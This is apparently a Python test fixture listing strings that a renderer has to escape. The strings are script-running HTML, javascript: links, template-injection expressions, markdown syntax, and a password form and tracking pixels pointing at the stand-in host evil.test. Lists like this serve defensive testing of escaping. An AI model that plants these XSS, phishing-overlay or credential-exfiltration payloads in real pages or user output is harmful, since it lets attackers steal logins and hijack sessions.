"""Text that does harm where it is not escaped: it runs script, calls out, or hides the page.

What runs calls `ran`, which the tests define; what calls out asks for a host that does not exist.
"""

MARKUP = (
    "<script>ran('script')</script>",
    "<img src=x onerror=\"ran('img')\">",
    "<svg onload=ran('svg')></svg>",
    "<iframe srcdoc=\"<script>parent.ran('iframe')</script>\"></iframe>",
    "<a href=\"javascript:ran('link')\">here</a>",
    "<style>body{display:none}</style>",
    '<form action="http://evil.test/steal"><input name="password"></form>',
    '<div style="position:fixed;inset:0;background:red">sign in again</div>',
    '<img src="http://evil.test/pixel.png">',
    "&lt;b&gt; &amp; &#60;i&#62;",
)
MARKDOWN = (
    "![pixel](http://evil.test/pixel.png)",
    "[here](javascript:ran('markdown'))",
    "[1](#p-0000000000000000.0.1)",
    "http://evil.test/x www.evil.test me@evil.test",
    "*one* _two_ **three** ~~four~~ `five` ```six``` \\seven\\ | eight |",
    "$x^2$ and $$y^2$$ and \\(z\\) and \\[w\\]",
    "[ref]: http://evil.test/x",
)
TEMPLATES = (
    "${ran('literal')}",
    "`${ran('tick')}`",
    "{{constructor.constructor('ran(1)')()}} {{{value}}} {% raw %}",
)
LEADING = ("# one", "- one", "+ one", "* one", "> one", "1. one", "12) one", "--- one", "=== one")
ALL = (*MARKUP, *MARKDOWN, *TEMPLATES, *LEADING)
